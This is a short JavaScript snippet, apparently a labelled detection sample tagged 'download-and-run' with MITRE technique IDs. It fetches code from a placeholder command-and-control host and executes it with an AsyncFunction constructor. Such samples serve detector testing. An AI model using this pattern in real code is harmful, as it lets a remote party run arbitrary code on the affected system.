// expect: download-and-run | source: T1105, T1059.007
const AsyncFunction = Object.getPrototypeOf(async function () {}).constructor;
const answer = await fetch("https://c2.example.invalid/c");
await new AsyncFunction(await answer.text())();
